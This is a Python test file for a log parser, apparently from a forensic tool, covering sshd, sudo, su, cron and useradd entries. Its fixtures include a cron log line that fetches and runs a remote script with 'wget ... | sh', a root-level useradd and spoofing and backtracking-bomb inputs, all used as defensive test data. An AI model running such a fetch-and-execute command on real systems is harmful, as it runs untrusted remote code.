"""Lines of sshd, sudo, su, cron and the account tools."""

from __future__ import annotations

from time import monotonic

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kubewitness.model.evidence import Place
from kubewitness.model.host import HostEvent
from kubewitness.sources.host import logins

START = HostEvent("record", "syslog", Place("auth.log", 1, 0), "2024-03-23T15:05:36.000000Z", 812)


def event(program: str, message: str) -> HostEvent:
    found = logins.event_of(program, message, START)
    assert found is not None
    assert (found.place, found.time, found.pid) == (START.place, START.time, START.pid)
    return found


LOGINS = [
    ("sshd", "Accepted password for root from 203.0.113.9 port 51022 ssh2", ("root", "203.0.113.9", True, "password")),
    (
        "sshd-session",
        "Accepted publickey for ubuntu from fe80::1%eth0 port 1 ssh2: ED25519 SHA256:abc",
        ("ubuntu", "fe80::1%eth0", True, "publickey"),
    ),
    ("sshd", "Failed password for root from 203.0.113.9 port 1 ssh2", ("root", "203.0.113.9", False, "password")),
    ("sshd", "Failed password for invalid user a b from ::1 port 1 ssh2", ("a b", "::1", False, "password")),
    ("sshd", "Invalid user admin from 203.0.113.9 port 4711", ("admin", "203.0.113.9", False, "none")),
    (
        "sshd",
        "Failed keyboard-interactive/pam for root from h.example.com port 1 ssh2",
        ("root", "h.example.com", False, "keyboard-interactive/pam"),
    ),
    ("dropbear", "Password auth succeeded for 'root' from 203.0.113.9:1", ("root", "203.0.113.9", True, "password")),
    ("dropbear", "Bad password attempt for 'x' from 203.0.113.9:1", ("x", "203.0.113.9", False, "password")),
    ("su", "(to root) alice on pts/0", ("root", "", True, "su")),
    ("su", "Successful su for root by alice", ("root", "", True, "su")),
    ("su", "FAILED SU (to root) alice on pts/0", ("root", "", False, "su")),
    ("systemd-logind", "New session 5 of user root.", ("root", "", True, "session")),
    (
        "systemd-logind",
        "New session '5' of user 'root' with class 'user' and type 'tty'.",
        ("root", "", True, "session"),
    ),
]


@pytest.mark.parametrize(("program", "text", "told"), LOGINS)
def test_forms_of_logging_in(program: str, text: str, told: tuple[str, str, bool, str]) -> None:
    found = event(program, text)
    assert found.category == "login"
    assert (found.user, found.address, found.succeeded, found.fields["method"]) == told


def test_a_failed_login_cannot_name_another_address_in_its_user() -> None:
    hostile = "root from 192.0.2.1 port 22 ssh2: x"
    found = event("sshd", f"Failed password for invalid user {hostile} from 203.0.113.9 port 5 ssh2")
    assert (found.user, found.address) == (hostile, "203.0.113.9")
    assert event("sshd", f"Invalid user {hostile} from 203.0.113.9 port 5").address == "203.0.113.9"


def test_a_key_cannot_name_another_address() -> None:
    text = "Accepted publickey for root from 203.0.113.9 port 5 ssh2: RSA-CERT ID x from 192.0.2.1 port 1 ssh2"
    assert (event("sshd", text).address, event("sshd", text).port) == ("203.0.113.9", 5)


def test_repeated_failures_are_counted() -> None:
    found = event("sshd", "message repeated 5 times: [ Failed password for root from 203.0.113.9 port 2 ssh2]")
    assert (found.count, found.succeeded, found.port) == (5, False, 0)


def test_sudo_tells_the_command_and_who_ordered_it() -> None:
    found = event("sudo", "   alice : TTY=pts/0 ; PWD=/home/a b ; USER=root ; COMMAND=/bin/sh -c id ; COMMAND=x")
    assert (found.user, found.cwd, found.command) == ("alice", "/home/a b", "/bin/sh -c id ; COMMAND=x")
    assert (found.image, found.succeeded, found.fields["USER"]) == ("/bin/sh", True, "root")
    denied = event("sudo", "eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su")
    assert (denied.succeeded, denied.fields["problem"]) == (False, "user NOT in sudoers")
    quiet = event("sudo", "eve : PWD=/ ; USER=root ; ENV=A=b ; COMMAND=/bin/su")
    assert (quiet.succeeded, quiet.command, quiet.cwd) == (True, "/bin/su", "/")


def test_cron_tells_what_it_started() -> None:
    found = event("CRON", "(root) CMD (wget -q -O - http://203.0.113.8/u.sh | sh)")
    assert (found.category, found.user, found.command) == (
        "record",
        "root",
        "wget -q -O - http://203.0.113.8/u.sh | sh",
    )
    assert event("crontab", "(root) REPLACE (root)").message == "(root) REPLACE (root)"


def test_a_new_account_is_told_with_its_number() -> None:
    found = event("useradd", "new user: name=hilde, UID=0, GID=0, home=/home/hilde, shell=/bin/bash, from=none")
    assert (found.user, found.fields["UID"], found.fields["shell"]) == ("hilde", "0", "/bin/bash")
    assert event("usermod", "add 'hilde' to group 'sudo'").message
    assert event("passwd", "pam_unix(passwd:chauthtok): password changed for root").message


@pytest.mark.parametrize(
    ("program", "text"),
    [
        ("sshd", "Server listening on 0.0.0.0 port 22."),
        ("sshd", "Connection closed by 203.0.113.9 port 1 [preauth]"),
        ("sshd", "said: Accepted password for root from 203.0.113.9 port 51022 ssh2"),
        ("nginx", "Accepted password for root from 203.0.113.9 port 51022 ssh2"),
        ("sudo", "pam_unix(sudo:session): session opened for user root by alice(uid=0)"),
        ("su", "pam_unix(su:session): session closed for user root"),
        ("cron", "(CRON) INFO (pidfile fd = 3)"),
        ("passwd", "password check"),
        ("systemd-logind", "Removed session 5."),
    ],
)
def test_other_lines_are_nothing(program: str, text: str) -> None:
    assert logins.event_of(program, text, START) is None


@given(st.sampled_from(sorted(logins.PROGRAMS)), st.text(max_size=300))
def test_no_text_breaks_it(program: str, text: str) -> None:
    for line in (text, f"Failed password for {text}", f"a : {text} ; COMMAND={text}", f"({text}) CMD ({text})"):
        found = logins.event_of(program, line, START)
        assert found is None or found.place == START.place


@pytest.mark.parametrize("piece", [" from 1 port 1", "' from 1:1", " ; PWD=/ ; USER=", "(to ", "COMMAND=", "[ "])
def test_a_bomb_takes_time_in_proportion(piece: str) -> None:
    start_of_test = monotonic()
    for program in sorted(logins.PROGRAMS):
        for start in (
            "Failed password for ",
            "Bad password attempt for '",
            "a : ",
            "(",
            "message repeated 5 times: [ Failed ",
        ):
            logins.event_of(program, start + piece * 5000, START)
    assert monotonic() - start_of_test < 5
